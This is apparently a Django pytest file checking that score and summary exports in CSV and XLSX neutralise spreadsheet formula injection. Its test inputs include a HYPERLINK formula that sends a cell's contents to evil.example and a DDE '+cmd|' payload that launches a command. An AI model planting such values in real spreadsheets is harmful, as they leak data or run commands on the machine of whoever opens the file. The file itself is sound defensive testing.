"""Issue 14, item 12: no export writes a live spreadsheet formula (CSV, XLSX, 집계표)."""

import csv
import io
import subprocess
import sys

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from evaluation.formula_guard import neutralise, restore
from institutions.models import Institution

from .test_commands_results import panel, scored  # noqa: F401 -- fixtures

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"기관")'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("한빛잡정보", "한빛잡정보"),
        ("-3", "-3"),  # a penalty's points stay a number
        ("+1.5", "+1.5"),
        ("", ""),
        (7, 7),
    ],
)
def test_neutralise_and_restore(value, safe):
    assert neutralise(value) == safe
    if isinstance(value, str):
        assert restore(safe) == value


def test_formula_guard_imports_no_django():
    code = "import sys, evaluation.formula_guard; print(any(m.startswith('django') for m in sys.modules))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


@pytest.fixture
def evil_scored(scored):  # noqa: F811
    application, other = scored
    Institution.objects.filter(pk=application.institution_id).update(name=EVIL)
    return application, other


def _run(*args) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize("command", ["export_scores", "export_results"])
def test_csv_exports_neutralise_names(evil_scored, command):
    rows = list(csv.reader(io.StringIO(_run(command, "test-2026"))))
    names = {row[rows[0].index("institution")] for row in rows[1:]}
    assert "'" + EVIL in names
    assert EVIL not in names


@pytest.mark.django_db
@pytest.mark.parametrize("command", ["export_scores", "export_results"])
def test_xlsx_exports_hold_no_formula(evil_scored, command, tmp_path):
    target = tmp_path / f"{command}.xlsx"
    _run(command, "test-2026", "--format", "xlsx", "-o", str(target))
    book = load_workbook(target)
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in {c.value for c in cells}


@pytest.mark.django_db
def test_export_scores_round_trips_through_import_despite_the_apostrophe(
    evil_scored, admin_user, tmp_path
):
    target = tmp_path / "round.csv"
    _run("export_scores", "test-2026", "-o", str(target))
    out = _run("import_scores", str(target), "--by", admin_user.username)
    assert "이미 같은 값인 행" in out


@pytest.mark.django_db
def test_summary_xlsx_holds_no_formula(evil_scored):
    from reports import documents, inputs

    application, _ = evil_scored
    book = load_workbook(
        io.BytesIO(documents.render_xlsx_bytes(inputs.summary_inputs(application.cycle)))
    )
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in {c.value for c in cells}
